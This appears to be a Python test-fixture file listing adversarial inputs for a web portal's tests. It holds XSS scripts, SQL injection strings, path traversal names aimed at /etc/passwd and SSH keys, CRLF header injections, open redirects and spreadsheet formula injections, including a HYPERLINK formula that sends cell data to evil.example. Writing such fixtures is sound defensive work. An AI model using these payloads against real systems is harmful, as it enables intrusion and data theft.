# ruff: noqa: RUF001 - letters that look like others are what is tested
"""What people send who mean no good, and what careless programs send: values for every proof."""

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"--></style></script><svg onload=alert(1)>",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">here</a>',
    "{{ 7*7 }}{% for x in y %}",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u202c",
)
"""Texts that run where a page takes them for its own."""

FORMULAS: Final = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/"&A1,"open")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1',
    "\n=1+1",
)
"""Texts that a spreadsheet takes for something to work out."""

FILE_NAMES: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "a\x00.png",
    'a"\r\nSet-Cookie: x=1\r\n.png',
    "con.txt",
    ".htaccess",
    "~/.ssh/id_rsa",
    "<img src=x onerror=alert(1)>.png",
    "name\u202egnp.exe",
    "x" * 4000 + ".png",
    "",
    ".",
    "..",
    "報價單 견적서.png",
    "\ud800.png",
)
"""Names of files that lead elsewhere, end a header, or are none."""

QUERIES: Final = (
    "' or '1'='1",
    "'; drop table person; --",
    "1) union select 1,2,3 --",
    "%",
    "_",
    "\\",
    "%%%_\\",
    "a%' escape 'a",
    '"unclosed and NEAR( * ^ :',
    "NOT AND OR -x +y (z",
    "{a}:*&|!<->",
    "a" * 3000,
    "한국어 显示器 顯示器",
    "ﬁ ﷺ " + "e" + "\u0301" * 200,
    "\u200b\u200f\ufeff",
    "💥👩‍👩‍👧‍👧",
)
"""Texts for a search box: quotes, wildcards, operators of both databases, far too much."""

NUMBERS: Final = (
    "1e999999",
    "-1e999999",
    "1e-999999",
    "NaN",
    "sNaN",
    "Infinity",
    "-Infinity",
    "-1",
    "0",
    "-0",
    "９９９",
    "²",
    "٣",
    "１２，５",
    "9" * 18,
    "9" * 40,
    "9" * 5000,
    "0." + "0" * 30 + "1",
    "0x1F",
    "1_000",
    "1,2,3",
    "1.2.3",
    "--1",
    "1 000",
    "½",
    "Ⅷ",
    "true",
    "null",
)
"""What stands where a number should: too large, too fine, none, or digits of another script."""

DATES: Final = (
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "2026-02-30",
    "99999-01-01",
    "2026-W01-1",
    "20260101",
    "2026-11-23T25:61:61",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "2026-11-23T09:00",
    "-2026-01-01",
    "２０２６-01-01",
    "now",
    "1700000000",
)
"""What stands where a day or an instant should."""

BROKEN: Final = (
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\x7f",
    "\ufffe\uffff",
    "line\r\nSet-Cookie: session=evil",
    "line\nBcc: everybody@evil.example",
    "\u2028\u2029",
    "\r\n\r\n<html>",
    " ",
    "\t\n",
    "x" * 100_000,
)
"""Texts with characters that end a line, a header or a string."""

CHARACTER_SETS: Final = (
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-32",
    "latin-1",
    "cp1252",
    "gb18030",
    "big5",
    "euc-kr",
    "shift_jis",
    "utf-7",
)
"""How a file may be written."""

ELSEWHERE: Final = (
    "https://evil.example/",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    " //evil.example",
    "http:evil.example",
    "https:/evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/%09/evil.example",
    "//evil.example/%2f..",
    "/.//evil.example",
    "//localhost@evil.example",
    "／／evil.example",
    "/\x00/evil.example",
)
"""Where a link that says "go on there" must not lead."""

HOSTS: Final = (
    "evil.example",
    "localhost.evil.example",
    "evil.example:80",
    "localhost@evil.example",
    "localhost, evil.example",
    "localhost#evil.example",
    "[::1].evil.example",
    "localhost/evil.example",
    "localhost:80@evil.example",
)
"""Names by which nobody knows this portal."""

TEXTS: Final = (*SCRIPTS, *FORMULAS, *QUERIES, *BROKEN)
ANYTHING: Final = (*NUMBERS, *DATES, *TEXTS, *ELSEWHERE)
